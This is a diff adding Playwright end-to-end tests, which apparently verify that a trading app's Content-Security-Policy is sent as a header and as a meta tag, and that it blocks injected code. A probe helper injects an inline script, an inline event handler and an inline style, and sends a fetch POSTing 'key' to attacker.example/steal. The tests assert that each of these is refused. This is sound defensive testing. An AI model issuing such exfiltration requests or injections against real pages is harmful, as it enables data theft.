@@ -1,0 +1,206 @@
+// The Content-Security-Policy (app/csp.ts) is in force where the app is served, lets a whole session
+// run without one violation, and stops what an injected script would do: run inline code, call an
+// inline handler, style markup inline, send data to another host.
+// - the production build as `vite preview` serves it (the other specs' server): the header (with
+//   frame-ancestors) and the built page's <meta>, then the demo desk's trade flow (identity, test
+//   funds, channel, quote, fill, Risk's uPlot chart, History & audit).
+// - the dev server as `npm start` runs it (HMR on, so the React refresh preamble, the page's one
+//   inline script, is there; its env from the stack as start.ts passes it): the header with the
+//   server's nonce, the preamble run under it, identity and the channels screen. Its page is on
+//   another origin than the one the stack's chain, oracle and watchtower answer (their CORS allows
+//   the preview's origin only): those calls fail by CORS, not by the policy.
+import type { BrowserContext, ConsoleMessage, Page } from '@playwright/test'
+import { configToEnv } from '../channel-contract/chain/config.ts'
+import { Service } from '../scripts/services.ts'
+import { createIdentity, getTestFunds, openDemoChannel, requestPut } from './app.ts'
+import { test, expect, newTrader, demoService, appPath, type Stack } from './fixtures.ts'
+
+const DEMO_PORT = 8781
+const DEV_PORT = 5293
+
+interface Violation { directive: string; blocked: string; source: string; line: number }
+
+/** Every violation the pages of this context report, recorded from before their first script runs. */
+async function recordViolations(context: BrowserContext): Promise<void> {
+  await context.addInitScript(() => {
+    const w = window as unknown as { __cspViolations: unknown[] }
+    w.__cspViolations = []
+    window.addEventListener('securitypolicyviolation', (e) => {
+      w.__cspViolations.push({ directive: e.effectiveDirective, blocked: e.blockedURI, source: e.sourceFile, line: e.lineNumber })
+    }, true)
+  })
+}
+
+async function violations(page: Page): Promise<Violation[]> {
+  return page.evaluate(() => (window as unknown as { __cspViolations: Violation[] }).__cspViolations)
+}
+
+/** The page's console errors and warnings that speak of the policy (Chromium logs each refusal). */
+function recordCspConsole(page: Page): string[] {
+  const seen: string[] = []
+  page.on('console', (m: ConsoleMessage) => {
+    if ((m.type() === 'error' || m.type() === 'warning') && /content security policy|refused to/i.test(m.text())) seen.push(`${m.type()}: ${m.text()}`)
+  })
+  page.on('pageerror', (e) => {
+    if (/content security policy|refused to/i.test(e.message)) seen.push(`pageerror: ${e.message}`)
+  })
+  return seen
+}
+
+/** A policy's text as directives (written here again, not app/csp.ts's parser: the test checks that module). */
+function directives(policy: string | null | undefined): Record<string, string[]> {
+  expect(policy, 'a Content-Security-Policy').toBeTruthy()
+  return Object.fromEntries(policy!.split(';').map((d) => d.trim().split(/\s+/)).filter((d) => d[0]).map(([name, ...sources]) => [name!, sources]))
+}
+
+/** What every delivery of the policy says alike (script-src and style-src are checked apart). */
+const COMMON = {
+  'default-src': ["'none'"],
+  'img-src': ["'self'"],
+  // A build for the dev chain or none (these tests): the page's own origin and any loopback port.
+  'connect-src': ["'self'", 'http://127.0.0.1:*', 'ws://127.0.0.1:*'],
+  'object-src': ["'none'"],
+  'base-uri': ["'none'"],
+  'form-action': ["'none'"],
+}
+
+/**
+ * What an injected script would try, each of which the policy must stop and report: an inline
+ * <script>, an inline event handler, a style="" attribute in markup, a request to another host.
+ * `policies`: how many policies the page enforces (the header and the <meta>: each reports its own).
+ */
+async function expectInjectionBlocked(page: Page, policies: number): Promise<void> {
+  await page.evaluate(() => {
+    (window as unknown as { __cspViolations: unknown[] }).__cspViolations = []
+  })
+  const outcome = await page.evaluate(async () => {
+    const w = window as unknown as { __injected?: string[] }
+    w.__injected = []
+    const script = document.createElement('script')
+    script.textContent = 'window.__injected.push("inline script")'
+    document.body.append(script)
+    const box = document.createElement('div')
+    box.innerHTML = '<img src="/csp-probe-missing.png" onerror="window.__injected.push(\'inline handler\')"><p id="csp-styled" style="color: rgb(255, 0, 0)">x</p>'
+    document.body.append(box)
+    let sent = 'sent'
+    try {
+      await fetch('https://attacker.example/steal', { method: 'POST', body: 'key', mode: 'no-cors' })
+    } catch {
+      sent = 'refused'
+    }
+    await new Promise((r) => setTimeout(r, 500))
+    const color = getComputedStyle(document.getElementById('csp-styled')!).color
+    box.remove()
+    script.remove()
+    return { ran: w.__injected, color, sent }
+  })
+  expect(outcome.ran, 'injected code that ran').toEqual([])
+  expect(outcome.color, 'an inline style attribute applied').not.toBe('rgb(255, 0, 0)')
+  expect(outcome.sent).toBe('refused')
+  await expect.poll(async () => (await violations(page)).map((v) => v.directive).sort(), { timeout: 5_000 })
+    .toEqual(['connect-src', 'script-src-attr', 'script-src-elem', 'style-src-attr'].flatMap((d) => Array<string>(policies).fill(d)))
+  const reported = await violations(page)
+  expect(reported.find((v) => v.directive === 'script-src-elem')?.blocked).toBe('inline')
+  expect(reported.find((v) => v.directive === 'connect-src')?.blocked).toMatch(/^https:\/\/attacker\.example/)
+}
+
+test('production build: the policy is sent and in the page, a demo desk trade runs without a violation, injected code is stopped', async ({ browser, stack }) => {
+  test.setTimeout(150_000)
+  const demo = demoService(stack, DEMO_PORT)
+  await demo.start()
+  try {
+    const trader = await newTrader(browser, stack, 'csp', `&demo=${encodeURIComponent(`http://127.0.0.1:${DEMO_PORT}`)}`)
+    await recordViolations(trader.context)
+    const page = trader.page
+    const cspConsole = recordCspConsole(page)
+    const res = await page.goto(`${appPath(stack)}&demo=${encodeURIComponent(`http://127.0.0.1:${DEMO_PORT}`)}`)
+
+    // The header: the whole policy, frame-ancestors with it (a header alone can carry it).
+    const header = directives(res!.headers()['content-security-policy'])
+    expect(header).toEqual({ ...COMMON, 'script-src': ["'self'"], 'style-src': ["'self'"], 'frame-ancestors': ["'none'"] })
+    // The built page's own copy (for a static host that sends no header): the same, less frame-ancestors.
+    const meta = page.locator('meta[http-equiv="Content-Security-Policy"]')
+    await expect(meta).toHaveCount(1)
+    expect(directives(await meta.getAttribute('content'))).toEqual({ ...COMMON, 'script-src': ["'self'"], 'style-src': ["'self'"] })
+
+    await createIdentity(page)
+    await expect(page.getByRole('button', { name: 'New channel' })).toBeVisible()
+    await getTestFunds(page)
+    await openDemoChannel(page)
+    await requestPut(page, '0.1')
+    await page.locator('[data-testid="quote"][data-status="live"]').first().getByRole('button', { name: 'Accept' }).click()
+    await expect(page.getByTestId('position-count')).toHaveText('1', { timeout: 20_000 })
+    await page.getByRole('tab', { name: 'Risk' }).click()
+    await expect(page.locator('.uplot canvas').first()).toBeVisible()
+    await expect(page.getByTestId('pnl-at-spot')).toBeVisible()
+    await page.getByRole('tab', { name: 'History & audit' }).click()
+    await expect(page.getByTestId('signed-states').locator('tbody tr').first()).toContainText('A ✓ B ✓ verified')
+
+    expect(await violations(page), 'CSP violations in the session').toEqual([])
+    expect(cspConsole, 'console messages about the policy').toEqual([])
+
+    // Both policies stop it, each on its own: the header's and the <meta>'s.
+    await expectInjectionBlocked(page, 2)
+    await trader.context.close()
+  } catch (e) {
+    console.log(`[desk log]\n${demo.tail(60)}`)
+    throw e
+  } finally {
+    await demo.stop()
+  }
+})
+
+/** The app on the Vite dev server, started as scripts/start.ts starts it (HMR on, services by env). */
+function devServer(stack: Stack): Service {
+  return new Service({
+    name: 'vite dev',
+    cmd: ['npx', 'vite', '--port', String(DEV_PORT), '--strictPort'],
+    env: {
+      // Its own dependency cache (parallel e2e runs must not re-optimize each other's).
+      VITE_CACHE_DIR: `../node_modules/.vite-csp-${DEV_PORT}`,
+      VITE_SIGNALING_URL: stack.signalingUrl,
+      VITE_DEMO_URL: `http://127.0.0.1:${DEMO_PORT}`,
+      ...configToEnv(stack.chainConfig, 'VITE_'),
+    },
+    ready: /Local:|ready in/,
+    timeoutMs: 90_000,
+  })
+}
+
+test('dev server (npm start): the policy with its nonce is sent, the React refresh preamble runs under it, no violation, injected code is stopped', async ({ browser, stack }) => {
+  test.setTimeout(150_000)
+  const dev = devServer(stack)
+  await dev.start()
+  try {
+    const context = await browser.newContext()
+    await recordViolations(context)
+    const page = await context.newPage()
+    const cspConsole = recordCspConsole(page)
+    const res = await page.goto(`http://127.0.0.1:${DEV_PORT}/`)
+
+    const header = directives(res!.headers()['content-security-policy'])
+    const nonce = /^'nonce-([A-Za-z0-9+/=_-]{16,})'$/.exec(header['script-src']?.[1] ?? '')?.[1]
+    expect(nonce, `script-src ${header['script-src']?.join(' ')}`).toBeTruthy()
+    // 'self' and the nonce only: no 'unsafe-inline', no 'unsafe-eval', not even in development.
+    expect(header).toEqual({ ...COMMON, 'script-src': ["'self'", `'nonce-${nonce}'`], 'style-src': ["'self'", `'nonce-${nonce}'`], 'frame-ancestors': ["'none'"] })
+    // The preamble (inline) ran: React refresh's hook is in place, and the modules it guards loaded.
+    await expect.poll(() => page.evaluate(() => typeof (window as unknown as { $RefreshReg$?: unknown }).$RefreshReg$)).toBe('function')
+    // Vite's client put the imported CSS in <style> tags carrying the nonce, and the browser applied them.
+    expect(await page.locator('style[data-vite-dev-id]').count()).toBeGreaterThan(0)
+    await expect(page.locator('body')).toHaveCSS('margin-top', '0px') // styles.css: body { margin: 0 }; a browser's own is 8px
+
+    await createIdentity(page)
+    await expect(page.getByRole('button', { name: 'New channel' })).toBeVisible()
+    await page.getByRole('button', { name: 'Trade with demo desk' }).click()
+
+    expect(await violations(page), 'CSP violations in the session').toEqual([])
+    expect(cspConsole, 'console messages about the policy').toEqual([])
+    await expectInjectionBlocked(page, 1)
+    await context.close()
+  } catch (e) {
+    console.log(`[vite dev output]\n${dev.tail(60)}`)
+    throw e
+  } finally {
+    await dev.stop()
+  }
+})
